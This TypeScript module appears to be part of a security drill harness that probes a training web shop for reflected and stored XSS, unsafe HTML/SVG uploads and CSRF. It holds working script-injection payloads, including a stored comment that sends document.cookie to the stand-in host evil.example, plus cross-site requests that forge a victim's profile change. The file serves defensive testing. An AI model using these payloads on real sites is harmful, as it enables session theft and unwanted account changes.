import { USERS } from '../seed.ts'
import { lookAfter, single, type Attack, type Finding } from './attack.ts'
import { as, form, jsonBody, type Echo, type Shot } from './wire.ts'

const XSS = 'XSS Prevention'

/** Evidence when the page holds the payload as markup. */
const raw =
  (payload: string) =>
  (reply: Echo): string | undefined =>
    String(reply.headers['content-type']).includes('text/html') && reply.text.includes(payload)
      ? 'the script stands in the page'
      : undefined

const reflected = (id: string, tries: string, payload: string): Attack => ({
  id: `reflected-xss-${id}`,
  chapter: XSS,
  tries,
  kind: 'active',
  run: single({ target: `/search?q=${encodeURIComponent(payload)}` }, raw(payload)),
})

const stored = (
  id: string,
  tries: string,
  post: (payload: string) => Shot,
  markup: (n: string) => string,
): Attack => ({
  id: `stored-xss-${id}`,
  chapter: XSS,
  tries,
  kind: 'active',
  run: async (field): Promise<Finding> => {
    const payload = markup(field.nonce)
    const reply = await field.shoot(post(payload))
    const look = await lookAfter(field, reply, { target: '/products/17' })
    return { effect: raw(payload)(look), reply }
  },
})

const upload = (id: string, name: string, type: string, content: (nonce: string) => string): Attack => ({
  id: `upload-${id}`,
  chapter: 'Missing Input Validation',
  tries: `upload ${name} with a script in it, as ${type}`,
  kind: 'active',
  run: async (field): Promise<Finding> => {
    const payload = content(field.nonce)
    const boundary = `drill-${field.nonce}`
    const reply = await field.shoot({
      target: '/upload',
      headers: { 'Content-Type': `multipart/form-data; boundary=${boundary}` },
      body: `--${boundary}\r\nContent-Disposition: form-data; name="picture"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${payload}\r\n--${boundary}--\r\n`,
    })
    const location = reply.headers['location']
    if (typeof location !== 'string' || !location.startsWith('/uploads/')) return { effect: undefined, reply }
    const look = await field.shoot({ target: location })
    const isLive =
      look.text.includes(payload) &&
      /html|svg/.test(String(look.headers['content-type'])) &&
      !/attachment/.test(String(look.headers['content-disposition'])) &&
      !/sandbox/.test(String(look.headers['content-security-policy']))
    return {
      effect: isLive ? `served back as ${String(look.headers['content-type'])}` : undefined,
      reply: look,
    }
  },
})

const EVIL = {
  Origin: 'https://evil.example',
  Referer: 'https://evil.example/prize',
  'Sec-Fetch-Site': 'cross-site',
}

/** Changes the victim's name and, where that worked, puts it back. */
const crossSite = (id: string, tries: string, shot: (name: string) => Shot): Attack => ({
  id: `csrf-${id}`,
  chapter: 'CSRF Prevention',
  tries,
  kind: 'active',
  run: async (field): Promise<Finding> => {
    const name = `Prize Winner ${field.nonce}`
    const reply = await field.shoot(shot(name))
    const look = await lookAfter(field, reply, { target: '/api/profile', headers: as(3) })
    if (!look.text.includes(name)) return { effect: undefined, reply }
    await field.shoot(form('/profile', { name: USERS[2]?.name ?? '' }, as(3)))
    return { effect: "changed the victim's profile", reply }
  },
})

/** What makes a browser do what its owner did not want. */
export const SCRIPTING: readonly Attack[] = [
  reflected('script', 'search for <script>', '<script>alert(document.cookie)</script>'),
  reflected('attribute', 'search for <img onerror>', '<img src=x onerror=alert(1)>'),
  reflected('svg', 'search for <svg/onload>', '<svg/onload=alert(1)>'),
  reflected('link', 'search for a javascript: link', '<a href="javascript:alert(1)">free bricks</a>'),
  stored(
    'form',
    "the guide's comment that steals cookies",
    (text) => form('/products/17/comments', { author: 'drill', text }),
    (nonce) => `<script>document.location="http://evil.example/${nonce}?cookie="+document.cookie</script>`,
  ),
  stored(
    'json',
    'a comment with <img onerror>, by the API',
    (text) => jsonBody('POST', '/api/products/17/comments', { author: 'drill', text }),
    (nonce) => `<img src=x onerror="alert('${nonce}')">`,
  ),
  stored(
    'json-escaped',
    'the same with \\u003c for <',
    (text) =>
      jsonBody(
        'POST',
        '/api/products/17/comments',
        JSON.stringify({ author: 'drill', text }).replaceAll('<', '\\u003c'),
      ),
    (nonce) => `<script>alert("${nonce}")</script>`,
  ),
  upload('html', 'wall.html', 'text/html', (nonce) => `<!doctype html><script>alert("${nonce}")</script>`),
  upload(
    'svg',
    'wall.svg',
    'image/svg+xml',
    (nonce) => `<svg xmlns="http://www.w3.org/2000/svg"><script>alert("${nonce}")</script></svg>`,
  ),
  crossSite('form', 'a form on evil.example posts with the victim’s cookie', (name) =>
    form('/profile', { name }, { ...as(3), ...EVIL }),
  ),
  crossSite('text-plain', 'JSON dressed as text/plain from evil.example', (name) => ({
    method: 'POST',
    target: '/profile',
    headers: { 'Content-Type': 'text/plain; x=json', ...as(3), ...EVIL },
    body: JSON.stringify({ name }),
  })),
]
